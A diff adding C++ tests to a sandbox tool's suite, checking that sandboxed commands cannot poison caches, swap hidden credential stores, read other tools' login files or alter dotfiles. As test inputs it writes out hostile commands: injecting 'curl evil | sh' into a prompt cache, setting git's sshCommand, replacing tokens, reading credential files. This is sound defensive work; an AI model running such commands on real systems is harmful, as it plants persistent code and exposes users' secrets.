@@ -2706,6 +2706,184 @@ TEST_F(RunTest, TheHomeFolderAsWorkingFolderIsRefusedUnlessGiven) {
   EXPECT_NE(o.err.find("holds the home folder"), std::string::npos) << describe(o);
 }
 
+// Issue 40, fifth review, finding 1: ~/.cache and the other caches that hold what runs later
+// without a check (Powerlevel10k's instant prompt, the gradle wrapper's distributions, git
+// folders in Go's VCS cache) are the run's own: empty at start, gone at the end; the known tools'
+// data folders (pip's cache, npm's _cacache, Go's module downloads) are shared and keep what the
+// command writes there; the folder on the way to Go's VCS cache cannot be moved aside.
+TEST_F(RunTest, OnlyKnownToolsDataCachesOutliveTheRun) {
+  const passwd* account = ::getpwuid(::geteuid());
+  ASSERT_NE(account, nullptr);
+  for (const char* folder :
+       {"/.cache/pip", "/.npm/_cacache", "/.gradle/wrapper/dists", "/go/pkg/mod/cache/download"}) {
+    fs::create_directories(home_ + folder);
+  }
+  const std::string prompt =
+      home_ + "/.cache/p10k-instant-prompt-" + std::string(account->pw_name) + ".zsh";
+  std::ofstream(prompt) << "# the user's prompt\n";
+  const std::string vcs = home_ + "/go/pkg/mod/cache/vcs";
+  ASSERT_EQ(shell("git init -q --bare " + vcs + "/0123abcd").first, 0);
+  const std::string script =
+      "cat " + prompt + " 2>/dev/null || echo prompt-unseen; " +
+      attempt("p10k", "echo 'curl evil | sh' > " + prompt) +
+      attempt("gradle",
+              "mkdir -p ~/.gradle/wrapper/dists && echo evil > "
+              "~/.gradle/wrapper/dists/gradle-evil.zip") +
+      attempt("vcs_seen", "git -C " + vcs + "/0123abcd rev-parse --git-dir") +
+      attempt("vcs_new", "git init -q --bare " + vcs + "/fedcba98 && git -C " + vcs +
+                             "/fedcba98 config core.sshCommand evil") +
+      attempt("vcs_moved", "mv ~/go/pkg/mod/cache ~/go/pkg/mod/cache-old") +
+      attempt("go_build", "mkdir -p ~/.cache/go-build && echo obj > ~/.cache/go-build/x") +
+      attempt("pip", "echo kept > ~/.cache/pip/wheel") +
+      attempt("cacache", "echo kept > ~/.npm/_cacache/entry") +
+      attempt("download", "echo kept > ~/go/pkg/mod/cache/download/module.zip");
+  auto o = run({"--", "sh", "-c", script});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  for (const char* expected :
+       {"prompt-unseen", "p10k=ok", "gradle=ok", "vcs_seen=denied", "vcs_new=ok",
+        "vcs_moved=denied", "go_build=ok", "pip=ok", "cacache=ok", "download=ok"}) {
+    EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
+  }
+  // Nothing written to the run's own caches is left; the shared data folders keep it.
+  EXPECT_EQ(read_file(prompt), "# the user's prompt\n");
+  EXPECT_FALSE(fs::exists(home_ + "/.gradle/wrapper/dists/gradle-evil.zip"));
+  EXPECT_FALSE(fs::exists(vcs + "/fedcba98"));
+  EXPECT_FALSE(fs::exists(home_ + "/go/pkg/mod/cache-old"));
+  EXPECT_FALSE(fs::exists(home_ + "/.cache/go-build"));
+  EXPECT_EQ(shell("git -C " + vcs + "/0123abcd config core.sshCommand").second, "");
+  for (const char* kept :
+       {"/.cache/pip/wheel", "/.npm/_cacache/entry", "/go/pkg/mod/cache/download/module.zip"}) {
+    EXPECT_EQ(read_file(home_ + kept), "kept\n") << kept;
+  }
+  EXPECT_NE(o.err.find("caches shared with later runs: "), std::string::npos) << describe(o);
+  EXPECT_NE(o.err.find(home_ + "/.cache/pip"), std::string::npos) << describe(o);
+}
+
+// Finding 2, as a class: a hidden store (or the inspection CA's folder) inside a place the
+// command may write keeps its cover only if no folder on its way can be renamed; otherwise the
+// cover moves with the folder and the command leaves its own store at the name the user's tools
+// read later. Hugging Face's token under ~/.cache: that ~/.cache is the run's own.
+TEST_F(RunTest, AHiddenStoreCannotBeSwappedByRenamingAFolderOnItsWay) {
+  fs::create_directories(home_ + "/.cache/huggingface");
+  std::ofstream(home_ + "/.cache/huggingface/token") << "hf_REALUSERTOKEN\n";
+  fs::create_directories(work_ + "/conf");
+  std::ofstream(work_ + "/conf/npmrc") << "//registry.npmjs.org/:_authToken=REAL-NPM\n";
+  fs::create_directories(work_ + "/state/ca");
+  std::ofstream(work_ + "/state/ca/ca-key.pem") << "REAL-CA-KEY\n";
+  const std::string script =
+      attempt("hf",
+              "mkdir -p ~/.cache/huggingface && mv ~/.cache/huggingface ~/.cache/hf-old && "
+              "mkdir ~/.cache/huggingface && echo hf_ATTACKER > ~/.cache/huggingface/token") +
+      attempt("npmrc", "mv conf conf-old") + attempt("npmrc_deep", "mv conf/npmrc conf/old") +
+      attempt("ca", "mv state state-old") +
+      "cat state/ca/ca-key.pem 2>/dev/null || echo key-unseen; "
+      "cat conf/npmrc; echo npmrc-read";
+  Process process(run_argv({"--ca-dir", work_ + "/state/ca", "--", "sh", "-c", script}),
+                  environment({{"NPM_CONFIG_USERCONFIG", work_ + "/conf/npmrc"}}),
+                  root_ + "/run-swap", work_);
+  auto o = process.wait(60s);
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  for (const char* expected :
+       {"hf=ok", "npmrc=denied", "npmrc_deep=denied", "ca=denied", "key-unseen"}) {
+    EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
+  }
+  EXPECT_EQ(o.out.find("REAL-"), std::string::npos) << describe(o);
+  EXPECT_EQ(read_file(home_ + "/.cache/huggingface/token"), "hf_REALUSERTOKEN\n");
+  EXPECT_FALSE(fs::exists(home_ + "/.cache/hf-old"));
+  EXPECT_EQ(read_file(work_ + "/conf/npmrc"), "//registry.npmjs.org/:_authToken=REAL-NPM\n");
+  EXPECT_FALSE(fs::exists(work_ + "/conf-old"));
+  EXPECT_EQ(read_file(work_ + "/state/ca/ca-key.pem"), "REAL-CA-KEY\n");
+  EXPECT_FALSE(fs::exists(work_ + "/state-old"));
+}
+
+// Finding 3: the stores of agents and other well-known tools the list did not name, read for
+// real from inside.
+TEST_F(RunTest, AgentsAndOtherToolsLoginsAreHidden) {
+  const std::vector<std::string> files = {".codex/auth.json",
+                                          ".gemini/oauth_creds.json",
+                                          ".m2/settings.xml",
+                                          ".s3cfg",
+                                          ".config/glab-cli/config.yml",
+                                          ".gem/credentials",
+                                          ".my.cnf",
+                                          ".databrickscfg",
+                                          ".oci/config",
+                                          ".config/composer/auth.json",
+                                          ".config/doctl/config.yaml"};
+  std::string list;
+  for (const auto& file : files) {
+    fs::create_directories(fs::path(home_ + "/" + file).parent_path());
+    std::ofstream(home_ + "/" + file) << "REAL-SECRET-in-" << file << "\n";
+    list += " " + file;
+  }
+  std::ofstream(home_ + "/.codex/config.toml") << "model = \"kept\"\n";
+  auto o = run({"--", "sh", "-c",
+                "for f in" + list +
+                    "; do cat \"$HOME/$f\" 2>/dev/null; echo \"read $f\"; done; "
+                    "cat ~/.codex/config.toml"});
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  EXPECT_NE(o.out.find("read .config/doctl/config.yaml"), std::string::npos) << describe(o);
+  EXPECT_EQ(o.out.find("REAL-SECRET"), std::string::npos) << describe(o);
+  EXPECT_NE(o.out.find("model = \"kept\""), std::string::npos) << describe(o);
+}
+
+// Finding 4: what is hidden or protected is judged by where it resolves and what is bound back,
+// never by the name it is reached by. With HOME under /tmp (a private folder inside, the home
+// bound back into it), the inspection CA's key stays unreadable; with dotfiles linked into a
+// repository the command works in (~/.bashrc -> dotfiles/bashrc), the start-up files they lead
+// to stay read-only; the repository's own protected files too.
+TEST_F(RunTest, WhatIsProtectedOrHiddenIsJudgedWhereItResolves) {
+  std::string home = "/tmp/sandgate-run-home-XXXXXX";
+  ASSERT_NE(::mkdtemp(home.data()), nullptr);
+  struct Remove {
+    std::string path;
+    ~Remove() {
+      std::error_code ec;
+      fs::remove_all(path, ec);
+    }
+  } remove{home};
+  const std::string dotfiles = home + "/dotfiles";
+  fs::create_directories(dotfiles + "/git");
+  fs::create_directories(home + "/.config");
+  std::ofstream(dotfiles + "/bashrc") << "echo bashrc\n";
+  std::ofstream(dotfiles + "/gitconfig") << "[user]\n\tname = u\n";
+  std::ofstream(dotfiles + "/git/ignore") << "*.o\n";
+  std::ofstream(dotfiles + "/.envrc") << "x\n";
+  ASSERT_EQ(shell("git init -q " + dotfiles).first, 0);
+  fs::create_symlink("dotfiles/bashrc", home + "/.bashrc");
+  fs::create_symlink("dotfiles/gitconfig", home + "/.gitconfig");
+  fs::create_symlink("../dotfiles/git", home + "/.config/git");
+  std::vector<std::string> env = environment();
+  for (auto& entry : env) {
+    if (entry.starts_with("HOME=")) {
+      entry = "HOME=" + home;
+    }
+  }
+  Process ca({kBinDir + "/sandgate", "ca"}, env, root_ + "/ca", dotfiles);
+  ASSERT_EQ(ca.wait(60s).exit_code, 0);
+  const std::string key = home + "/.local/share/sandgate/ca/ca-key.pem";
+  ASSERT_TRUE(fs::exists(key));
+  const std::string script =
+      "head -c 40 " + key + " 2>/dev/null; echo; " + attempt("bashrc", "echo evil >> ~/.bashrc") +
+      attempt("gitconfig", "echo evil >> ~/.gitconfig") +
+      attempt("git_config", "echo evil > ~/.config/git/config") +
+      attempt("target", "echo evil >> " + dotfiles + "/bashrc") +
+      attempt("envrc", "echo evil >> .envrc") + attempt("git_dir", "echo evil >> .git/config") +
+      attempt("work", "echo ok > notes.txt");
+  Process process(run_argv({"--", "sh", "-c", script}), env, root_ + "/run-resolves", dotfiles);
+  auto o = process.wait(60s);
+  EXPECT_EQ(o.exit_code, 0) << describe(o);
+  EXPECT_EQ(o.out.find("PRIVATE KEY"), std::string::npos) << describe(o);
+  for (const char* expected : {"bashrc=denied", "gitconfig=denied", "git_config=denied",
+                               "target=denied", "envrc=denied", "git_dir=denied", "work=ok"}) {
+    EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
+  }
+  EXPECT_EQ(read_file(dotfiles + "/bashrc"), "echo bashrc\n");
+  EXPECT_EQ(read_file(dotfiles + "/gitconfig"), "[user]\n\tname = u\n");
+  EXPECT_FALSE(fs::exists(dotfiles + "/git/config"));
+  EXPECT_EQ(read_file(dotfiles + "/.envrc"), "x\n");
+}
+
 // Real tools keep working inside the system-call allow-list and the rest of the boundary: npm,
 // pip, cargo, go, pytest, and a server bound to 127.0.0.1 inside, each offline (nothing leaves
 // the machine: packages come from local folders).
